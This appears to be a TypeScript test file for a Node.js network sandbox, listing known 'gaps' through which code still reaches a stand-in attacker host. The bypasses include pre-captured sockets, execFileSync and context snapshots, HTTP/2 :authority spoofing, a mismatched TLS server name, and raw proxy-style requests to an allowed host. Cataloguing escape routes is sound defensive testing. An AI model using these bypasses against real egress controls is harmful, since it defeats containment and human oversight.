import { AsyncLocalStorage } from 'node:async_hooks';
import { EventEmitter, once } from 'node:events';
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';
import { type Attack, family, type Scene } from '../attack.ts';
import { connected, session, text } from '../outcome.ts';

/** From before there was a call. */
const snapshot = AsyncLocalStorage.snapshot();

/**
 * What nothing inside a process holds, by design: each of these reaches the attacker under the leash too. A row that does
 * so no longer is good news, and moves to the others.
 */
export const gaps: readonly Attack[] = family(
  'not held',
  [],
  [
    ['a snapshot of the context outside', 'reaches', ({ evil }) => snapshot(() => text(fetch(evil.http)))],
    ['an event that code outside fires', 'reaches', firedOutside],
    ['a connect that was taken before', 'reaches', ({ early, evil }) => connected(Reflect.apply(early.connect, new net.Socket(), [evil.port, '127.0.0.1']))],
    ['an execFileSync that was taken before', 'reaches', ({ early, evil, program }) => early.execFileSync(process.execPath, [program, String(evil.port)])],
    [
      'a socket that was connected before',
      'reaches',
      async ({ evil, outside }) => {
        const socket = await outside(() => open(evil.port));
        await new Promise<void>((resolve) => socket.end('GET / HTTP/1.1\r\nHost: x\r\n\r\n', resolve));
      },
    ],
    [
      'an HTTP/2 session that was open before',
      'reaches',
      async ({ evil, outside }) => {
        const client = await outside(async () => {
          const opened = http2.connect(evil.http);
          await new Promise((resolve) => opened.once('connect', resolve));
          return opened;
        });
        await session(client);
      },
    ],
    ['another :authority to the allowed host that passes on', 'reaches', ({ evil, good }) => session(http2.connect(good.http), { ':authority': evil.authority }), { raw: true }],
    ['another server name in a connection to the allowed host that passes on', 'reaches', ({ evil, good }) => connected(tls.connect({ socket: net.connect(good.port, good.host), servername: evil.host }), 'secureConnect'), { raw: true }],
    [
      'words of its own to the allowed host that passes on',
      'reaches',
      async ({ evil, good }) => {
        const socket = net.connect(good.port, good.host);
        await new Promise<void>((resolve) => socket.end(`GET ${evil.http}/ HTTP/1.1\r\nHost: ${evil.host}\r\nConnection: close\r\n\r\n`, resolve));
        await once(socket.resume(), 'close');
      },
      { raw: true },
    ],
  ],
);

async function firedOutside(scene: Scene): Promise<unknown> {
  const emitter = new EventEmitter();
  const answer = new Promise((resolve, reject) => {
    emitter.once('go', () => text(fetch(scene.evil.http)).then(resolve, reject));
  });
  snapshot(() => setImmediate(() => emitter.emit('go')));
  return answer;
}

async function open(port: number): Promise<net.Socket> {
  const socket = net.connect(port, '127.0.0.1');
  await new Promise((resolve) => socket.once('connect', resolve));
  return socket;
}
